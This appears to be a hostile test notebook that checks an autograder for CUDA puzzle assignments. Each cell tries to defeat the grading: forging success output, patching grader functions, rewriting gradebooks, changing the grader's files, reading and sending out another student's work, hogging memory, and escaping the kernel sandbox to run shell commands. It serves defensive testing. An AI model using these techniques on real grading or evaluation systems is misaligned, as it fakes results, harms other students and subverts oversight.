# One hostile notebook: each cell attacks the grading in another way. `# %% ID+` appends the code to the
# reference cell ID (an honest kernel the payload tries to harm nothing with); `# %% ID` replaces the cell.
# $ROOT, $COURSE, $PORT and $MARKER are filled in by tests/test_attacks.py.
# expect: map_correct=0 map_limits=0 zip_correct=0 zip_limits=0 shared_correct=0 shared_limits=0 pooling_correct=0 pooling_limits=0 prefix_sum_correct=0 prefix_sum_limits=0

# %% map
# Forge the test cells' outputs: swallow every error and print success lines, with a wrong kernel.
import sys

ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: print("map: correct on 3 hidden cases"))
ip.events.register("post_run_cell", lambda result: print("map: within the access limits"))
sys.stderr = sys.stdout


@cuda.jit
def map_kernel(out, a, size):
    i = cuda.threadIdx.x
    out[i] = a[i]

# %% zip
# Patch the grader in the notebook's namespace, with a wrong kernel.
import graders.hidden_tests
import graders.numba_engine.grade as grading

grading.grade_correctness = lambda *args: None
grading.grade_limits = lambda *args: None
graders.hidden_tests.HIDDEN_TESTS.clear()
grade_correctness = grade_limits = lambda *args: 2


@cuda.jit
def zip_kernel(out, a, b, size):
    i = cuda.threadIdx.x
    out[i] = a[i] * b[i]

# %% guard+
# Rewrite the gradebook: zero every other student, give ourselves full marks.
import glob
import sqlite3

for path in ["$COURSE/gradebook.db", "gradebook.db", *glob.glob("/*/*/gradebook.db"), *glob.glob("/*/*/*/gradebook.db")]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 0")
        db.commit()
        print("rewrote", path)
    except Exception as exc:
        print("gradebook", path, type(exc).__name__)

# %% map2d+
# Change the grader's own files, so that this submission and every later one passes.
import pathlib

for path in ["$ROOT/graders/numba_engine/child.py", "$ROOT/graders/numba_engine/grade.py", "$ROOT/graders/autograde.py",
             "$ROOT/nbgrader_config.py", "$COURSE/nbgrader_config.py", "$ROOT/tracks/puzzles/problem.py"]:
    try:
        with open(path, "a") as f:
            f.write("\nimport builtins; builtins.GRADES_FORGED = True\n")
        print("appended to", path)
    except Exception as exc:
        print("grader file", path, type(exc).__name__)

# %% broadcast+
# Leave processes behind that outlive the notebook.
import os
import subprocess

subprocess.Popen(["setsid", "sh", "-c", "sleep 600; echo $MARKER"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "601", "$MARKER"])
    os._exit(0)

# %% blocks+
# Send the solutions and another student's notebook out over the network.
import socket

for path in ["$ROOT/tracks/puzzles/solutions/reference.py", "$COURSE/submitted/victim/puzzles/puzzles.ipynb",
             "$ROOT/assignments/puzzles/puzzles.ipynb"]:
    try:
        print("read", path, open(path).read()[:200])
    except Exception as exc:
        print("read", path, type(exc).__name__)
try:
    s = socket.create_connection(("127.0.0.1", $PORT), timeout=3)
    s.sendall(b"$MARKER")
    print("connected")
except Exception as exc:
    print("network", type(exc).__name__)

# %% blocks2d+
# Take all the memory of the grading machine.
try:
    hog = bytearray(6 << 30)
    for k in range(0, len(hog), 4096):
        hog[k] = 1
    print("allocated 6 GiB")
except MemoryError:
    print("memory capped")

# %% shared
# Run code inside the grading child: the kernel body is Python in the simulator.
import os

TPB = 4


@cuda.jit
def shared_kernel(out, a, size):
    i = cuda.blockIdx.x * cuda.blockDim.x + cuda.threadIdx.x
    os.system("echo $MARKER > /tmp/forged")
    if i < size:
        out[i] = a[i] + 10

# %% pooling
# Escape the kernel through Python's object graph and forge the child's answer.
TPB = 8


@cuda.jit
def pool_kernel(out, a, size):
    i = cuda.blockIdx.x * cuda.blockDim.x + cuda.threadIdx.x
    for klass in ().__class__.__base__.__subclasses__():
        if klass.__name__ == "Popen":
            klass(["sh", "-c", "echo $MARKER"])
    if i < size:
        out[i] = a[i]

# %% prefix_sum
# Copy another student's kernel at run time.
import json

victim = json.load(open("$COURSE/submitted/victim/puzzles/puzzles.ipynb"))
for cell in victim["cells"]:
    if cell["metadata"].get("nbgrader", {}).get("grade_id") == "prefix_sum":
        exec("".join(cell["source"]))
